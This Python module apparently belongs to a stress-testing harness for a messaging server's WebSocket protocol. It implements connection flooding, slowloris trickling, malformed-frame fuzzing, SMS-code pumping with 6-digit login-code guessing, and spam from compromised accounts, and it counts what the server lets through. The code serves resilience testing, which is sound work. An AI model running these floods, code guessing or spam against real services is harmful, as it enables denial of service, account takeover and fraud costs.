"""The attacks, one coroutine per source address (or compromised account), in modes:

``connect``    open ``conns_per_attacker`` WebSockets per address, say hello, hold them idle
               (answering pings); reopen at once when the server closes one.
``slowloris``  per address, ``conns_per_attacker`` sockets; even ones trickle an HTTP request
               that never ends (one header byte every ``slow_interval``), odd ones finish the
               upgrade and then trickle the hello frame one byte at a time.
``junk``       one connection at a time per address, in turn: raw garbage instead of HTTP;
               junk frames before hello; hello then junk (random bytes, wrong msgpack types,
               unknown methods, bad params, text frames, a 100 KiB frame). Up to 200 frames a
               connection, as fast as the socket takes them, then a new connection.
``login``      one logged-out connection per address with 8 calls in flight: auth.send_code
               for random valid-looking mobile numbers in 11 countries (SMS pumping), and
               auth.sign_in guessing 6-digit codes for the code ids it got, or random ids.
``spam``       each compromised account (logged in) pipelines 64 messages.send at a time to
               offline victims, as fast as the server answers.

Every attacker counts what it did and what the server let through (:class:`Counters`); the
process running them reports the counters each second (:mod:`.attackproc`).
"""

from __future__ import annotations

import asyncio
import functools
import os
import random
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

from . import wire
from .rawws import CallFailed, Closed, RawWS, Refused, Rpc, open_tcp

# What an attacker counts. ``held`` is a gauge (sockets open at the end of the second);
# the rest are events.
EVENTS = ("conns_attempted", "conns_accepted", "conns_refused", "closed_by_server",
          "frames_sent", "calls", "answered", "refused", "unanswered", "codes_sent",
          "messages_sent")


class Counters:
    def __init__(self) -> None:
        self.events = dict.fromkeys(EVENTS, 0)
        self.codes: Counter[str] = Counter()
        self.held = 0

    def add(self, name: str, n: int = 1) -> None:
        self.events[name] += n

    def refused(self, exc: Exception) -> None:
        """A connection the server would not take; the reason is counted with the codes
        (``conn: http 503``, ``conn: connect: TimeoutError``, ``hello: BANNED``)."""
        self.events["conns_refused"] += 1
        reason = exc.code if isinstance(exc, CallFailed) else str(exc)
        self.codes[f"{'hello' if isinstance(exc, CallFailed) else 'conn'}: {reason}"] += 1

    def opened(self) -> None:
        self.held += 1

    def shut(self) -> None:
        self.held -= 1

    def answer(self, frame: dict[str, Any] | None) -> None:
        """Count one server frame answering a call or a junk frame."""
        if frame is None:
            return
        kind = frame.get("t")
        if kind == "result":
            self.events["answered"] += 1
        elif kind == "error":
            code = str(frame.get("code"))
            self.codes[code] += 1
            self.events["refused" if wire.is_refusal(code) else "answered"] += 1

    def take(self) -> dict[str, Any]:
        """This second's counts (events reset) and the sockets open at its end."""
        out: dict[str, Any] = dict(self.events)
        out["held"] = self.held
        out["error_codes"] = dict(self.codes)
        self.events = dict.fromkeys(EVENTS, 0)
        self.codes = Counter()
        return out


@dataclass
class Plan:
    """Everything the attacker process needs; travels as JSON on its stdin."""

    host: str
    port: int
    t0: float                       # time.time() of second 0 of the run
    on_at: float                    # time.time() the attack starts and stops
    off_at: float
    modes: dict[str, list[str | None]]  # mode -> source addresses (None: do not bind)
    spam: list[dict[str, Any]] = field(default_factory=list)  # {token, chats, address}
    conns_per_attacker: int = 2
    slow_interval: float = 1.0
    seed: int = 1


class Attack:
    def __init__(self, plan: Plan) -> None:
        self.plan = plan
        self.counters = {mode: Counters() for mode in plan.modes}
        if plan.spam:
            self.counters.setdefault("spam", Counters())
        self.rng = random.Random(plan.seed)
        self._stop = asyncio.Event()

    def stop(self) -> None:
        self._stop.set()

    async def stopped(self) -> None:
        await self._stop.wait()

    @property
    def stopping(self) -> bool:
        return self._stop.is_set() or time.time() >= self.plan.off_at

    def workers(self) -> list[Any]:
        plan, out = self.plan, []
        for mode, addresses in plan.modes.items():
            c = self.counters[mode]
            for i, addr in enumerate(addresses):
                if mode == "connect":
                    out += [self._connect(addr, c) for _ in range(plan.conns_per_attacker)]
                elif mode == "slowloris":
                    out += [self._slowloris(addr, c, (i + k) % 2 == 1)
                            for k in range(plan.conns_per_attacker)]
                elif mode == "junk":
                    out.append(self._junk(addr, c))
                elif mode == "login":
                    out.append(self._login(addr, c))
        for account in plan.spam:
            out.append(self._spam(account, self.counters["spam"]))
        return out

    async def run(self) -> None:
        """Wait for the start, attack until the end, then close every socket."""
        await asyncio.sleep(max(0.0, self.plan.on_at - time.time()))
        tasks = [asyncio.create_task(w) for w in self.workers()]
        try:
            await asyncio.sleep(max(0.0, self.plan.off_at - time.time()))
        finally:
            self._stop.set()
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

    async def _pause(self, low: float, high: float) -> None:
        await asyncio.sleep(self.rng.uniform(low, high))

    # -- connect: open and hold -------------------------------------------------------------
    async def _connect(self, addr: str | None, c: Counters) -> None:
        await self._pause(0, 0.5)  # not all in the same millisecond
        while not self.stopping:
            c.add("conns_attempted")
            try:
                ws = await RawWS.connect(self.plan.host, self.plan.port, addr)
            except Refused as exc:
                c.refused(exc)
                await self._pause(0.2, 1.0)
                continue
            c.add("conns_accepted")
            c.opened()
            try:
                await ws.send(wire.hello())
                c.add("frames_sent")
                while (msg := await ws.recv()) is not None:
                    frame = wire.decode(msg[1])
                    if frame is not None and frame.get("t") == "error":
                        c.answer(frame)
                c.add("closed_by_server")
            except OSError:
                c.add("closed_by_server")
            finally:
                c.shut()
                ws.abort()
            await self._pause(0.05, 0.3)

    # -- slowloris: hold the server's attention with one byte at a time ----------------------
    async def _slowloris(self, addr: str | None, c: Counters, upgrade_first: bool) -> None:
        plan = self.plan
        await self._pause(0, plan.slow_interval)
        while not self.stopping:
            c.add("conns_attempted")
            try:
                if upgrade_first:
                    ws = await RawWS.connect(plan.host, plan.port, addr)
                    reader, writer = ws.reader, ws.writer
                    trickle = wire.encode_frame(wire.hello())
                    endless = False
                else:
                    reader, writer = await open_tcp(plan.host, plan.port, addr, 5.0)
                    writer.write(f"GET /v1/ws HTTP/1.1\r\nHost: {plan.host}\r\n".encode())
                    trickle = b"X-Siege-Padding: " + b"a" * 4000
                    endless = True
            except Refused as exc:
                c.refused(exc)
                await self._pause(0.2, 1.0)
                continue
            c.add("conns_accepted")
            c.opened()
            closed = asyncio.create_task(reader.read(65536))
            try:
                i = 0
                while not self.stopping:
                    if i == len(trickle):
                        if not endless:
                            break  # the whole hello went out: the server has won this one
                        i = 0
                    writer.write(trickle[i:i + 1])
                    c.add("frames_sent")
                    i += 1
                    done, _ = await asyncio.wait({closed}, timeout=plan.slow_interval)
                    if done:
                        c.add("closed_by_server")
                        break
            except OSError:
                c.add("closed_by_server")
            finally:
                c.shut()
                closed.cancel()
                writer.transport.abort()
            await self._pause(0.05, 0.3)

    # -- junk: garbage before and after hello ------------------------------------------------
    def _junk_frame(self, n: int) -> tuple[bytes, int]:
        """The n-th junk frame: mostly frames the server must read, decode and answer;
        now and then one that should end the connection (bad UTF-8 text, over 64 KiB)."""
        rng = self.rng
        if n % 64 == 63:
            return os.urandom(100 * 1024), wire.OP_BINARY  # over the 64 KiB frame limit
        if n % 32 == 31:
            return b"\xff" * rng.randint(1, 64), wire.OP_TEXT  # not UTF-8
        kind = n % 7
        if kind == 0:
            return os.urandom(rng.randint(1, 200)), wire.OP_BINARY
        if kind == 1:
            return wire.pack([1, 2, {"t": 3}]), wire.OP_BINARY
        if kind == 2:
            return wire.call(n, f"no.such_method_{n}", {}), wire.OP_BINARY
        if kind == 3:
            return wire.call(n, "messages.send", {"chat_id": "x", "text": 7}), wire.OP_BINARY
        if kind == 4:
            return wire.pack({"t": "call", "id": -1, "method": 5}), wire.OP_BINARY
        if kind == 5:
            return wire.call(n, "messages.history", {"chat_id": 1}), wire.OP_BINARY
        return wire.pack({"t": "hello", "versions": ["one"]}), wire.OP_BINARY

    async def _junk(self, addr: str | None, c: Counters) -> None:
        plan = self.plan
        await self._pause(0, 0.5)
        round_ = 0
        while not self.stopping:
            round_ += 1
            style = round_ % 3
            c.add("conns_attempted")
            if style == 0:  # not even HTTP
                try:
                    reader, writer = await open_tcp(plan.host, plan.port, addr, 5.0)
                except Refused as exc:
                    c.refused(exc)
                    await self._pause(0.2, 1.0)
                    continue
                c.add("conns_accepted")
                c.opened()
                try:
                    writer.write(os.urandom(512) + b"\r\n\r\n")
                    c.add("frames_sent")
                    await asyncio.wait_for(reader.read(65536), 2.0)
                    c.add("closed_by_server")
                except (TimeoutError, OSError):
                    pass
                finally:
                    c.shut()
                    writer.transport.abort()
                continue
            try:
                ws = await RawWS.connect(plan.host, plan.port, addr)
            except Refused as exc:
                c.refused(exc)
                await self._pause(0.2, 1.0)
                continue
            c.add("conns_accepted")
            c.opened()
            answers = asyncio.create_task(self._count_answers(ws, c))
            try:
                if style == 2:
                    await ws.send(wire.hello())
                    c.add("frames_sent")
                for n in range(200):
                    if answers.done() or self.stopping:
                        break
                    payload, opcode = self._junk_frame(n + round_)
                    await ws.send(payload, opcode)
                    c.add("frames_sent")
                    await asyncio.sleep(0)  # let the reader see answers and a close
                await asyncio.wait({answers}, timeout=1.0)
            except OSError:
                pass
            finally:
                if answers.done():
                    c.add("closed_by_server")
                c.shut()
                ws.abort()
                answers.cancel()

    @staticmethod
    async def _count_answers(ws: RawWS, c: Counters) -> None:
        while (msg := await ws.recv()) is not None:
            frame = wire.decode(msg[1])
            if frame is not None and frame.get("t") != "welcome":
                c.answer(frame)

    # -- login: code pumping and code guessing -----------------------------------------------
    _COUNTRIES = (("+49151", 8), ("+49170", 8), ("+447911", 6), ("+336", 8), ("+316", 8),
                  ("+346", 8), ("+39312", 7), ("+48512", 6), ("+9198", 8), ("+55119", 8),
                  ("+7916", 7), ("+1202555", 4))

    def _phone(self) -> str:
        prefix, digits = self.rng.choice(self._COUNTRIES)
        return prefix + "".join(self.rng.choice("0123456789") for _ in range(digits))

    async def _login(self, addr: str | None, c: Counters) -> None:
        await self._pause(0, 0.5)
        window = 8
        while not self.stopping:
            c.add("conns_attempted")
            try:
                rpc = await Rpc.open(self.plan.host, self.plan.port, addr)
            except (Refused, CallFailed) as exc:  # CallFailed: an error instead of welcome
                c.refused(exc)
                await self._pause(0.2, 1.0)
                continue
            c.add("conns_accepted")
            c.opened()
            issued: list[tuple[str, str]] = []  # (phone, code_id) the server handed out
            slots = asyncio.Semaphore(window)

            def settle(phone: str, method: str, fut: asyncio.Future[dict[str, Any]], *,
                       slots: asyncio.Semaphore = slots,
                       issued: list[tuple[str, str]] = issued) -> None:
                slots.release()
                if fut.cancelled() or fut.exception() is not None:
                    c.add("unanswered")
                    return
                frame = fut.result()
                c.answer(frame)
                if method == "auth.send_code" and frame.get("t") == "result":
                    c.add("codes_sent")
                    value = frame.get("value") or {}
                    issued.append((phone, str(value.get("code_id", ""))))
                    del issued[:-32]

            try:
                while not self.stopping and not rpc.done.is_set():
                    await slots.acquire()
                    if issued and self.rng.random() < 0.4:
                        phone, code_id = self.rng.choice(issued)
                    else:
                        phone, code_id = self._phone(), ""
                    if code_id or self.rng.random() < 0.7:
                        method = "auth.send_code" if not code_id else "auth.sign_in"
                    else:
                        method, code_id = "auth.sign_in", os.urandom(16).hex()
                    params: dict[str, Any] = {"phone": phone}
                    if method == "auth.sign_in":
                        params.update(code_id=code_id, code=f"{self.rng.randrange(10**6):06d}",
                                      name="Totally Real Person")
                    c.add("calls")
                    c.add("frames_sent")
                    fut = rpc.send_call(method, params)
                    fut.add_done_callback(functools.partial(settle, phone, method))
                    await rpc.ws.writer.drain()
                if rpc.done.is_set():
                    c.add("closed_by_server")
            except OSError:
                c.add("closed_by_server")
            finally:
                c.shut()
                rpc.close()
            await self._pause(0.05, 0.3)

    # -- spam: compromised accounts sending as fast as they can ------------------------------
    async def _spam(self, account: dict[str, Any], c: Counters) -> None:
        window = 64  # the most a connection may have in flight (docs/protocol.md)
        chats: list[int] = account["chats"]
        n = 0
        while not self.stopping:
            c.add("conns_attempted")
            try:
                rpc = await Rpc.open(self.plan.host, self.plan.port, account["address"],
                                     token=account["token"])
            except (Refused, CallFailed) as exc:  # e.g. SESSION_INVALID once banned
                c.refused(exc)
                await self._pause(0.2, 1.0)
                continue
            c.add("conns_accepted")
            c.opened()
            slots = asyncio.Semaphore(window)

            def settle(fut: asyncio.Future[dict[str, Any]], *,
                       slots: asyncio.Semaphore = slots) -> None:
                slots.release()
                if fut.cancelled() or fut.exception() is not None:
                    c.add("unanswered")
                    return
                frame = fut.result()
                c.answer(frame)
                if frame.get("t") == "result":
                    c.add("messages_sent")

            try:
                while not self.stopping and not rpc.done.is_set():
                    await slots.acquire()
                    n += 1
                    c.add("calls")
                    c.add("frames_sent")
                    fut = rpc.send_call("messages.send", {
                        "chat_id": chats[n % len(chats)],
                        "random_id": self.rng.getrandbits(63),
                        "text": f"BUY CHEAP PIGEONS http://spam.invalid/{n}"})
                    fut.add_done_callback(settle)
                    await rpc.ws.writer.drain()
                if rpc.done.is_set():
                    c.add("closed_by_server")
            except (OSError, Closed):
                c.add("closed_by_server")
            finally:
                c.shut()
                rpc.close()
            await self._pause(0.05, 0.3)
